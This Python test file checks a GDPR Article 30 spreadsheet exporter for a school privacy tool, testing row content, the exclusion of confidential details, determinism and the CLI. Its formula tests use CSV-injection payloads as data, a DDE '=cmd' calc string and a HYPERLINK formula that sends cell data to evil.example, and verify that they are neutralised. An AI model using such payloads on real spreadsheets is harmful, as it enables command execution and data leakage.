"""The record of processing (GDPR Art. 30(1)) as XLSX and CSV: content, safety, determinism, the CLI."""

from __future__ import annotations

import csv
import io
import json
import textwrap
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from dpia.analysis.art30 import ART30_COLUMNS, art30_csv, art30_table, art30_xlsx
from dpia.model.names import duration_text
from dpia.cli import main
from dpia.io.export import FORMULA_PREFIXES, safe_cell
from dpia.i18n import t
from dpia.io.store import load

from .conftest import EXAMPLE, MINI, ROOT, assert_clock_free, write_register

COL = {key: i for i, (key, _) in enumerate(ART30_COLUMNS)}

# A register of its own (the shared MINI fixture grows with other features): every entity once.
SMALL = {
    "register.yaml": MINI["register.yaml"],  # the same board, parties, systems and categories
    "more.yaml": """\
        purposes:
          - id: education
            label: {nl: Onderwijs geven, en: Providing education}
            legal_basis: public_task
            legal_source: WVO 2020
            needs: [name, care]
          - id: bron
            label: {nl: Melden aan DUO, en: Reporting to DUO}
            legal_basis: legal_obligation
            legal_source: WVO 2020
            needs: [name, bsn]
        flows:
          - id: f-school-las
            from: school-a
            to: las
            categories: [name, care]
            purposes: [education]
            subjects: [pupils-u16]
            channel: web
          - id: f-las-duo
            from: las
            to: duo
            categories: [name, bsn]
            purposes: [bron]
        agreements:
          - id: va-supplier
            kind: model_4_0
            parties: [supplier]
            categories: [name, care]
            purposes: [education]
            valid_from: 2024-01-01
            valid_until: 2027-12-31
            deletion_after_use: true
            permitted_subprocessors: [hosting]
            privacy_annex_version: '2024.1'
            security_annex: Beveiligingsbijlage v3
            retention: P1Y
            retention_trigger: end_of_contract
        consents:
          - id: c-photos
            purpose: education
            given_by: {under_16: parent, 16_to_17: pupil, 18_plus: pupil}
            recorded_in: las
            withdrawal: via het ouderportaal
        access_roles:
          - id: mentor
            label: {nl: Mentor, en: Form tutor}
            system: las
            read: [name, care]
            reason: begeleiding
        retention:
          - id: r-name
            category: name
            duration: P2Y
            trigger: deregistration
        measures:
          - id: m-mfa
            label: {nl: Tweefactorauthenticatie, en: Two-factor authentication}
            kind: technical
            systems: [las]
            detail: secret detail
        """,
}


@pytest.fixture
def small(tmp_path: Path) -> Path:
    return write_register(tmp_path / "small", SMALL)


def run(capsys, *argv: str) -> tuple[int, str, str]:
    try:
        code = main(list(argv))
    except SystemExit as exc:
        code = exc.code
    out, err = capsys.readouterr()
    return code, out, err


def rows_by_id(register, lang="nl", sep="; "):
    header, rows = art30_table(register, lang, sep)
    return header, {r[0]: r for r in rows}


def xlsx_text(data: bytes) -> str:
    """Every XML part of an XLSX, as one text (to search for what must not be there)."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return "\n".join(zf.read(n).decode("utf-8") for n in zf.namelist() if n.endswith(".xml") or n.endswith(".rels"))


def xlsx_rows(data: bytes) -> list[list]:
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    return [[c.value for c in row] for row in ws.iter_rows()]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\r\n", 1)[0].count(";") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


# ---- content


def test_one_row_per_purpose_with_what_article_30_asks(small: Path) -> None:
    register = load(small).register
    header, rows = rows_by_id(register)
    assert header == [t(k, "nl") for k, _ in ART30_COLUMNS]
    assert header[:2] == ["Kenmerk", "Verwerkingsactiviteit (doel)"]
    assert list(rows) == [p.id for p in register.purposes]
    edu = rows["education"]
    assert edu[COL["art30_col_activity"]] == "Onderwijs geven"
    assert edu[COL["art30_col_controller"]] == "Stichting Voorbeeld (KvK 12345678)"
    assert edu[COL["art30_col_dpo"]] == "A. de Vries, fg@example.nl"
    assert edu[COL["art30_col_legal_basis"]] == "publieke taak (AVG art. 6 lid 1 onder e)"
    assert edu[COL["art30_col_legal_source"]] == "WVO 2020"
    assert edu[COL["art30_col_subjects"]] == "Leerlingen jonger dan 16"
    assert edu[COL["art30_col_categories"]] == "Naam; Zorggegevens (bijzonder persoonsgegeven: gezondheid)"
    assert edu[COL["art30_col_recipients"]] == "Leverancier LAS (verwerker)"
    assert edu[COL["art30_col_transfers"]] == "geen"
    assert edu[COL["art30_col_retention"]] == (
        "Naam: 2 jaar na uitschrijving; Zorggegevens: geen bewaartermijn vastgelegd"
    )
    assert edu[COL["art30_col_systems"]] == "Leerlingadministratie"
    assert edu[COL["art30_col_measures"]] == "Tweefactorauthenticatie"
    bron = rows["bron"]
    assert bron[COL["art30_col_legal_basis"]] == "wettelijke plicht (AVG art. 6 lid 1 onder c)"
    assert bron[COL["art30_col_recipients"]] == "DUO (zelfstandig verantwoordelijke)"
    assert "(wettelijk identificatienummer, UAVG art. 46)" in bron[COL["art30_col_categories"]]


def test_english_headers_and_text(small: Path) -> None:
    register = load(small).register
    header, rows = rows_by_id(register, "en")
    assert header[1] == "Processing activity (purpose)" and header[-1] == "Security measures (general description)"
    edu = rows["education"]
    assert edu[COL["art30_col_legal_basis"]] == "public task (GDPR Art. 6(1)(e))"
    assert edu[COL["art30_col_retention"]].startswith("Name: 2 years after the pupil leaves")
    assert edu[COL["art30_col_transfers"]] == "none"
    assert load_workbook(io.BytesIO(art30_xlsx(register, "en"))).sheetnames == ["Record of processing"]
    assert load_workbook(io.BytesIO(art30_xlsx(register, "nl"))).sheetnames == ["Verwerkingsregister"]


def test_transfers_outside_the_eea_name_country_and_safeguard(tmp_path: Path) -> None:
    files = dict(SMALL)
    files["more.yaml"] = SMALL["more.yaml"].replace(
        """          - id: f-las-duo""",
        """          - id: f-las-hosting
            from: las
            to: hosting
            categories: [name]
            purposes: [education]
          - id: f-las-cloud
            from: las
            to: cloud
            categories: [name]
            purposes: [education]
          - id: f-las-duo""",
    )
    files["zz-cloud.yaml"] = """\
        parties:
          - id: cloud
            name: Cloud Inc.
            role: sub_processor
            processor_of: supplier
            location: {country: US}
        """
    register = load(write_register(tmp_path / "r", files)).register
    _, rows = rows_by_id(register)
    edu = rows["education"]
    assert edu[COL["art30_col_recipients"]] == (
        "Leverancier LAS (verwerker); Hosting BV (subverwerker, US); Cloud Inc. (subverwerker, US)"
    )
    assert edu[COL["art30_col_transfers"]] == (
        "Hosting BV: US, standaardcontractbepalingen (AVG art. 46 lid 2 onder c); "
        "Cloud Inc.: US, geen waarborg vastgelegd"
    )
    assert rows["bron"][COL["art30_col_transfers"]] == "geen"


def test_a_flow_for_several_purposes_carries_what_each_needs(tmp_path: Path) -> None:
    files = dict(SMALL)
    files["more.yaml"] = SMALL["more.yaml"].replace(
        "            purposes: [bron]\n", "            purposes: [bron, education]\n", 1
    )
    register = load(write_register(tmp_path / "r", files)).register
    _, rows = rows_by_id(register)
    # f-las-duo carries name and bsn; education needs name (and care), bron needs name and bsn
    assert "BSN" not in rows["education"][COL["art30_col_categories"]]
    assert rows["education"][COL["art30_col_recipients"]] == "Leverancier LAS (verwerker); DUO (zelfstandig verantwoordelijke)"
    assert "BSN" in rows["bron"][COL["art30_col_categories"]]


def test_example_register_has_a_row_per_purpose_and_marks_gaps() -> None:
    register = load(EXAMPLE).register
    _, rows = rows_by_id(register)
    assert list(rows) == [p.id for p in register.purposes]
    assert rows["p-quality"][COL["art30_col_legal_basis"]] == "niet vastgelegd"
    assert "Foto's en video's van leerlingen: geen bewaartermijn vastgelegd" in rows["p-website"][COL["art30_col_retention"]]
    assert "Microsoft Corporation: US, adequaatheidsbesluit (AVG art. 45)" == rows["p-communication"][COL["art30_col_transfers"]]
    assert "ten minste 6 maanden na de uitslag" in rows["p-exams"][COL["art30_col_retention"]]
    assert "Jaarlijkse controle van verwerkersovereenkomsten (gepland)" in rows["p-enrolment"][COL["art30_col_measures"]]


@pytest.mark.parametrize(
    ("value", "lang", "text"),
    [
        ("P2Y", "nl", "2 jaar"),
        ("P1Y", "en", "1 year"),
        ("P5Y6M", "nl", "5 jaar en 6 maanden"),
        ("P1M2W3D", "en", "1 month, 2 weeks and 3 days"),
        ("P90D", "nl", "90 dagen"),
    ],
)
def test_durations_are_written_out(value: str, lang: str, text: str) -> None:
    assert duration_text(value, lang) == text


# ---- confidentiality


def test_confidential_measure_details_are_never_exported() -> None:
    register = load(EXAMPLE).register
    details = [m.detail for m in register.measures if m.detail]
    assert details
    for lang in ("nl", "en"):
        outputs = [xlsx_text(art30_xlsx(register, lang)), art30_csv(register, lang).decode("utf-8-sig")]
        for out in outputs:
            for detail in details:
                assert detail not in out
                assert detail[:40] not in out
            assert "Meldpunt datalek" not in out and "Conditional Access" not in out
    # the labels of those measures are there
    assert "Procedure datalekken" in art30_csv(register, "nl").decode("utf-8-sig")


def test_small_secret_detail_stays_out(small: Path) -> None:
    register = load(small).register
    assert "secret detail" not in xlsx_text(art30_xlsx(register))
    assert b"secret detail" not in art30_csv(register)


# ---- formulas


CONTROLLER = "=cmd|' /C calc'!A0"
DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+31 6 1234 5678", "-x", "@SUM(1+1)"]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A register whose names and labels start like formulas, each at the start of some cell."""
    parties, flows, purposes = [], [], []
    for i, name in enumerate(DANGEROUS):
        q = json.dumps(name)  # a JSON string is a YAML double-quoted scalar
        parties.append(f"  - id: p{i}\n    name: {q}\n    role: processor\n")
        purposes.append(
            f"  - id: u{i}\n    label: {{nl: {q}, en: {q}}}\n    legal_basis: public_task\n    legal_source: {q}\n"
        )
        flows.append(f"  - id: f{i}\n    from: board\n    to: p{i}\n    categories: [name]\n    purposes: [u{i}]\n")
    text = textwrap.dedent(f"""\
        controller:
          id: board
          name: {json.dumps(CONTROLLER)}
          sector: vo
        data_categories:
          - id: name
            label: {{nl: Naam, en: Name}}
            type: ordinary
        """)
    text += "parties:\n" + "".join(parties) + "purposes:\n" + "".join(purposes) + "flows:\n" + "".join(flows)
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "register.yaml").write_text(text, encoding="utf-8")
    return folder


def _assert_no_cell_runs(cells: list) -> None:
    for value in cells:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_PREFIXES), value


def test_formulas_are_neutralised_in_xlsx(hostile: Path) -> None:
    register = load(hostile).register
    data = art30_xlsx(register)
    rows = xlsx_rows(data)
    for row in rows:
        _assert_no_cell_runs(row)
    body = rows[1:]
    activity = [r[COL["art30_col_activity"]] for r in body]
    recipients = [r[COL["art30_col_recipients"]] for r in body]
    assert activity == [safe_cell(d) for d in DANGEROUS] == ["'" + d for d in DANGEROUS]
    assert recipients == [f"'{d} (verwerker)" for d in DANGEROUS]
    assert body[0][COL["art30_col_controller"]] == "'" + CONTROLLER
    # no formula cell in the file at all, and every cell is a plain or shared string
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_formulas_are_neutralised_in_csv(hostile: Path) -> None:
    register = load(hostile).register
    for lang in ("nl", "en"):
        rows = csv_rows(art30_csv(register, lang))
        for row in rows:
            _assert_no_cell_runs(row)
        body = rows[1:]
        assert [r[COL["art30_col_activity"]] for r in body] == ["'" + d for d in DANGEROUS]
        assert [r[COL["art30_col_legal_source"]] for r in body] == ["'" + d for d in DANGEROUS]
        role = t("role_processor", lang)
        assert [r[COL["art30_col_recipients"]] for r in body] == [f"'{d} ({role})" for d in DANGEROUS]


# ---- file formats


def test_control_characters_do_not_break_the_xlsx(tmp_path: Path) -> None:
    files = dict(SMALL)
    files["register.yaml"] = SMALL["register.yaml"].replace("name: Leverancier LAS", 'name: "Leverancier\\x0bLAS\\x00"')
    register = load(write_register(tmp_path / "r", files)).register
    assert register.parties[0].name == "Leverancier\x0bLAS\x00"
    rows = xlsx_rows(art30_xlsx(register))
    assert rows[1][COL["art30_col_recipients"]] == "Leverancier\ufffdLAS\ufffd (verwerker)"


def test_xlsx_bytes_do_not_depend_on_the_time(small: Path, later_clock) -> None:
    register = load(small).register
    first = art30_xlsx(register)
    assert_clock_free(first)
    later_clock()
    assert art30_xlsx(register) == first


def test_xlsx_has_a_styled_frozen_header(small: Path) -> None:
    wb = load_workbook(io.BytesIO(art30_xlsx(load(small).register)))
    ws = wb["Verwerkingsregister"]
    assert ws.freeze_panes == "A2"
    assert all(c.font.bold for c in ws[1])
    assert not ws["A2"].font.bold
    assert ws.auto_filter.ref == f"A1:O{ws.max_row}"
    widths = [ws.column_dimensions[c].width for c in "ABCDEFGHIJKLMNO"]
    assert all(8 <= w <= 60 for w in widths) and len(set(widths)) > 1
    assert ws.max_row == 1 + len(load(small).register.purposes) and ws.max_column == len(ART30_COLUMNS)


def test_csv_for_excel_nl_semicolon_en_comma(small: Path) -> None:
    register = load(small).register
    nl = art30_csv(register, "nl")
    en = art30_csv(register, "en")
    assert nl.startswith(b"\xef\xbb\xbfKenmerk;Verwerkingsactiviteit (doel);")
    assert en.startswith(b"\xef\xbb\xbfReference,Processing activity (purpose),")
    assert nl.endswith(b"\r\n") and b"\n" not in nl.replace(b"\r\n", b"")
    assert [r[0] for r in csv_rows(nl)] == ["Kenmerk", *(p.id for p in register.purposes)]
    assert csv_rows(art30_csv(register, "nl", delimiter=","))[0][0] == "Kenmerk"
    assert art30_csv(register, "nl") == nl  # deterministic too


# ---- the command


def test_cli_export_art30_xlsx_and_csv(capsys, small: Path, tmp_path: Path) -> None:
    code, out, err = run(capsys, "export-art30", str(small), "-o", str(tmp_path / "reg.xlsx"))
    assert code == 0 and err == "" and out.strip() == str(tmp_path / "reg.xlsx")
    assert xlsx_rows((tmp_path / "reg.xlsx").read_bytes())[1][0] == "education"
    code, out, _ = run(capsys, "--lang", "en", "export-art30", str(small), "-o", str(tmp_path / "reg.csv"))
    assert code == 0
    assert (tmp_path / "reg.csv").read_bytes().startswith(b"\xef\xbb\xbfReference,")
    code, _, _ = run(capsys, "export-art30", str(small), "-o", str(tmp_path / "tab.csv"), "--delimiter", "tab")
    assert code == 0 and (tmp_path / "tab.csv").read_bytes().startswith(b"\xef\xbb\xbfKenmerk\t")


def test_cli_export_art30_refuses_other_formats_and_invalid_registers(capsys, tmp_path: Path) -> None:
    code, _, err = run(capsys, "export-art30", str(EXAMPLE), "-o", str(tmp_path / "reg.txt"))
    assert code == 2 and "moet eindigen op .xlsx / .csv" in err
    (tmp_path / "bad").mkdir()
    (tmp_path / "bad" / "a.yaml").write_text("controller:\n  id: Board\n")
    code, out, err = run(capsys, "export-art30", str(tmp_path / "bad"), "-o", str(tmp_path / "x.xlsx"))
    assert code == 2 and out == "" and "geen geldige id" in err and "Traceback" not in err
    assert not (tmp_path / "x.xlsx").exists()


def test_docs_list_every_column_in_both_languages() -> None:
    doc = (ROOT / "docs" / "art30-spreadsheet.md").read_text(encoding="utf-8")
    for key, point in ART30_COLUMNS:
        row = f"| {t(key, 'nl')} | {t(key, 'en')} | " + (f"({point}) |" if point else "|")
        assert row in doc, row
